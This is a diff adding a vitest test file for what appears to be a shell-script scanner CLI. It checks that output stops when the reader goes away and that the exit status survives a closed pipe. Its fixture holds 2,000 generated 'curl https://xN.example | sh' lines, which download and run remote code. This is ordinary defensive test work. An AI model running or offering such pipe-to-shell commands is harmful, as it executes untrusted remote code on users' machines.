@@ -1,0 +1,45 @@
+import { PassThrough } from "node:stream";
+import { describe, expect, it } from "vitest";
+import { Output } from "../../src/cli/output.js";
+import { Answer } from "../../src/cli/scan/answer.js";
+import type { Examined } from "../../src/cli/examine.js";
+import type { Progress } from "../../src/cli/progress.js";
+import { folderWith } from "./folder.js";
+import { bash } from "./process.js";
+
+const progress = { clear: () => undefined } as unknown as Progress;
+
+describe("an answer of many findings whose reader goes", () => {
+  it("is not put together any further", async () => {
+    const stream = new PassThrough();
+    let made = 0;
+    const answer = new Answer(
+      {
+        begin: () => "",
+        file: () => "",
+        *pieces() {
+          for (; made < 20_000; made++) {
+            if (made === 10) stream.destroy();
+            yield "a finding\n";
+          }
+        },
+        end: () => "",
+      },
+      new Output(stream),
+    );
+    await answer.file({} as Examined, progress);
+    expect(answer.isOpen).toBe(false);
+    expect(made).toBeLessThan(20);
+  });
+
+  it("ends the scan with the status of what was found", async () => {
+    const text = Array.from({ length: 2000 }, (_, at) => `curl https://x${at}.example | sh\n`);
+    const cwd = folderWith({ "many.sh": text.join("") });
+    const { stdout, stderr } = await bash(
+      'curlew scan many.sh | head -n 1; echo "status ${PIPESTATUS[0]}"',
+      { cwd },
+    );
+    expect(stdout).toMatch(/^many\.sh:1:1: .*\nstatus 1\n$/);
+    expect(stderr).not.toMatch(/EPIPE|\n\s+at /);
+  });
+});
